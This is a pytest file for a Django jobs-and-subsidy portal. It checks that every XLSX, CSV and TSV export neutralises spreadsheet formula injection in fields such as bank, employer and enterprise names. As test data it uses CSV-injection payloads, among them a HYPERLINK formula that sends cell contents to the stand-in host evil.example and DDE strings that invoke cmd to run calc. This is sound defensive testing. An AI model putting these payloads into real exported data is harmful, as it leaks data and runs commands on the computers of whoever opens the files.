"""Issue 11 item 3: every export of the portal neutralises spreadsheet formulas.

Free text entered by enterprises, complainants or staff (bank name, employer, occupation, names,
notes...) that starts with ``=``, ``+``, ``-``, ``@``, tab or CR is stored in XLSX as a text cell
(never a formula) and in CSV/TSV with a leading apostrophe, while numbers stay numeric cells.
Every export is fetched over HTTP and read back with openpyxl (or the csv module)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib import admin as django_admin
from django.urls import reverse
from openpyxl import load_workbook

from enterprises.models import EmploymentReport, Enterprise, InsuranceMonth, LabourDispute
from xingtai_jobs.core.documents import csv_safe, is_formula_like, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(content: bytes):
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in ws.iter_rows()]


def assert_xlsx_safe(content: bytes, *, payload_count: int, numeric: int = 0):
    """No cell is a formula; at least ``payload_count`` text cells carry a payload verbatim; at
    least ``numeric`` cells are numbers."""
    rows = _cells(content)
    found = numbers = 0
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.data_type == "s"
                found += 1
            if cell.data_type == "n" and isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                numbers += 1
    assert found >= payload_count, rows
    assert numbers >= numeric, [[c.value for c in r] for r in rows]
    return [[c.value for c in r] for r in rows]


def test_kernel_xlsx_writes_text_as_text_and_numbers_as_numbers():
    content = xlsx_bytes(["a", "=b"], [[p, 12, Decimal("3.50"), dt.date(2024, 1, 2)] for p in PAYLOADS] + [["#N/A", "x\x01y"]])
    values = assert_xlsx_safe(content, payload_count=len(PAYLOADS) + 1, numeric=2 * len(PAYLOADS))
    assert [r[0] for r in values[1:-1]] == PAYLOADS  # the text is kept verbatim, just not evaluated
    assert values[1][1] == 12 and values[1][2] == 3.5
    assert values[-1] == ["#N/A", "x\ufffdy", None, None]  # not an error cell; no illegal char breaks the file


def test_csv_safe_prefixes_formula_text_only():
    assert [csv_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [csv_safe(v) for v in ("-5", "+3.25", "1e5", 7, Decimal("-1.5"), "邢台", "")] == ["-5", "+3.25", "1e5", 7, Decimal("-1.5"), "邢台", ""]


# --- each export of the portal --------------------------------------------------------------


def test_bank_file_neutralises_bank_and_payee(login, city_officer, enterprise, other_enterprise):
    from subsidies import services
    from subsidies.models import PayoutItem
    from tests.subsidies.factories import eligible_enterprise, open_round

    round_ = open_round()
    eligible_enterprise(enterprise=enterprise)
    services.screening_run(round_=round_)
    from subsidies.models import Application
    from tests.factories import UserFactory
    from xingtai_jobs.core.models import User

    Enterprise.objects.filter(pk=enterprise.pk).update(name=PAYLOADS[1])
    enterprise.refresh_from_db()
    user = UserFactory(role=User.Role.ENTERPRISE_USER, enterprise=enterprise)
    services.bank_account_confirm(enterprise=enterprise, actor=user, account_name=PAYLOADS[1], bank_name=HYPERLINK,
                                  account_number="6222020400001234567")
    app = services.application_review_start(app=Application.objects.get(enterprise=enterprise), actor=city_officer)
    services.application_approve(app=app, actor=city_officer)
    services.notice_publish(round_=round_, actor=city_officer)
    services.notices_close_due(on_date=dt.date.today() + dt.timedelta(days=30))
    client = login(city_officer)
    batch_url = client.post(reverse("subsidies:staff_batches"), {"round": round_.pk})["Location"]
    client.post(batch_url, {"action": "lock"})
    item = PayoutItem.objects.get()
    assert item.bank_name == HYPERLINK
    response = client.get(reverse("subsidies:staff_batch_export", args=[item.batch_id]))
    values = assert_xlsx_safe(response.content, payload_count=2, numeric=1)
    assert values[1][:3] == [PAYLOADS[1], HYPERLINK, "6222020400001234567"]


def test_wage_arrears_export_neutralises_employer_and_project(login, county_officer, region_a):
    from tests.wage_arrears.conftest import form_data
    from wage_arrears import services
    from wage_arrears.forms import ComplaintForm
    from wage_arrears.models import Complaint

    form = ComplaintForm(form_data(employer_name=HYPERLINK, project_name="@SUM(1+1)"))
    assert form.is_valid(), form.errors
    services.complaint_submit(data=form.to_input())
    Complaint.objects.update(address="\t=1+1")
    response = login(county_officer).get("/staff/wage-arrears/export.xlsx")
    values = assert_xlsx_safe(response.content, payload_count=2, numeric=2)
    assert HYPERLINK in values[1] and "@SUM(1+1)" in values[1]


def test_job_demand_export_neutralises_occupation(login, city_officer, enterprise):
    from rankings import services

    for n, payload in enumerate(PAYLOADS):
        services.job_demand_file(enterprise=enterprise, actor=city_officer, year=2025, quarter=1, occupation=payload, headcount=n + 1,
                                 education="any", skill_level="none", pay_min=3000, pay_max=5000)
    response = login(city_officer).get(reverse("rankings:staff-job-demand"), {"format": "xlsx"})
    entered = {p.strip() for p in PAYLOADS}  # the filing strips surrounding whitespace
    values = assert_xlsx_safe(response.content, payload_count=len(entered), numeric=len(entered))
    assert {r[1] for r in values[1:]} >= entered


def test_key_enterprise_exports_neutralise_name_and_reason(login, city_officer, enterprise):
    from rankings import services
    from rankings.models import KeyEnterpriseDesignation

    Enterprise.objects.filter(pk=enterprise.pk).update(name="-2+3")
    services.key_enterprise_designate(enterprise=enterprise, actor=city_officer, reason=HYPERLINK, designated_on=dt.date(2025, 1, 2))
    client = login(city_officer)
    page = client.get(reverse("rankings:staff-key-enterprises"), {"format": "xlsx"})
    assert_xlsx_safe(page.content, payload_count=2)
    action = client.post(reverse("admin:rankings_keyenterprisedesignation_changelist"), {
        "action": "export_xlsx", "_selected_action": [KeyEnterpriseDesignation.objects.get().pk]})
    assert_xlsx_safe(action.content, payload_count=2)


def test_public_ranking_xlsx_neutralises_enterprise_names(client, region_b):
    from rankings import services
    from tests.rankings.factories import three_enterprises

    a, b, c = three_enterprises(2023, region_b)
    Enterprise.objects.filter(pk=a.pk).update(name=HYPERLINK)
    Enterprise.objects.filter(pk=b.pk).update(name="@SUM(1)")
    services.ranking_publish(ranking=services.ranking_compute(year=2023), force=True, reason="测试")
    response = client.get(reverse("rankings:public-xlsx", args=[2023]))
    assert_xlsx_safe(response.content, payload_count=2, numeric=3)


def test_officer_compliance_export_neutralises_enterprise_name(login, city_officer, enterprise):
    Enterprise.objects.filter(pk=enterprise.pk).update(name=HYPERLINK, above_scale=True)
    response = login(city_officer).get(reverse("recruitment:staff-officer-compliance"), {"format": "xlsx"})
    assert_xlsx_safe(response.content, payload_count=1, numeric=2)


# --- the admin exports (django-import-export) ------------------------------------------------


def _admin_export(client, model, fmt: str):
    from xingtai_jobs.core.exports import FORMATS

    model_admin = django_admin.site._registry[model]
    resource = model_admin.get_export_resource_classes(None)[0]
    field_names = [f.column_name for f in resource().get_export_fields()]
    prefix = resource.__name__.lower()
    index = [f.__name__ for f in FORMATS].index(fmt)
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    response = client.post(url, {"format": str(index), "resource": "0", "export_items": [],
                                 **{f"{prefix}_{name}": "on" for name in field_names}})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"], response.content[:500]
    return response.content


@pytest.fixture
def poisoned(enterprise):
    """Every free-text field of the exported registry models holds a payload."""
    Enterprise.objects.filter(pk=enterprise.pk).update(name=HYPERLINK, address="+1+1", contact_name="@SUM(1)")
    InsuranceMonth.objects.create(enterprise=enterprise, month=dt.date(2024, 3, 1), insured_count=42, new_insured=3,
                                  ui_premium_due=Decimal("100.50"), ui_premium_paid=Decimal("100.50"))
    EmploymentReport.objects.create(enterprise=enterprise, month=dt.date(2024, 3, 1), headcount=40, new_hires=2, separations=1,
                                    layoffs=0, vacancies=5, consistency_note="-1+1", explanation=HYPERLINK, source="=cmd|x")
    LabourDispute.objects.create(enterprise=enterprise, case_number="=1+2", filed_date=dt.date(2024, 3, 2), workers_involved=7,
                                 outcome="@SUM(1)")
    return enterprise


EXPORTED = [(Enterprise, 3), (EmploymentReport, 2), (LabourDispute, 2)]


@pytest.mark.parametrize(("model", "payloads"), EXPORTED, ids=lambda v: getattr(v, "__name__", str(v)))
def test_admin_xlsx_export_stores_text_and_keeps_numbers(login, city_officer, poisoned, model, payloads):
    content = _admin_export(login(city_officer), model, "XLSX")
    assert_xlsx_safe(content, payload_count=payloads, numeric=1 if model is not Enterprise else 0)


@pytest.mark.parametrize(("model", "payloads"), EXPORTED, ids=lambda v: getattr(v, "__name__", str(v)))
@pytest.mark.parametrize("fmt", ["CSV", "TSV"])
def test_admin_csv_and_tsv_exports_prefix_formulas(login, city_officer, poisoned, model, payloads, fmt):
    text = _admin_export(login(city_officer), model, fmt).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter="," if fmt == "CSV" else "\t"))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if is_formula_like(c)], rows
    assert len([c for c in cells if c.startswith("'") and is_formula_like(c[1:])]) >= payloads, rows


def test_admin_insurance_month_export_keeps_numbers(login, city_officer, poisoned):
    values = assert_xlsx_safe(_admin_export(login(city_officer), InsuranceMonth, "XLSX"), payload_count=0, numeric=3)
    assert 42 in values[1]


def test_every_admin_export_goes_through_the_safe_formats():
    from import_export.admin import ExportMixin as Upstream

    from xingtai_jobs.core.exports import ExportMixin

    exporting = [a for a in django_admin.site._registry.values() if isinstance(a, Upstream)]
    assert exporting  # the registry exports exist
    assert all(isinstance(a, ExportMixin) for a in exporting), [type(a).__name__ for a in exporting if not isinstance(a, ExportMixin)]
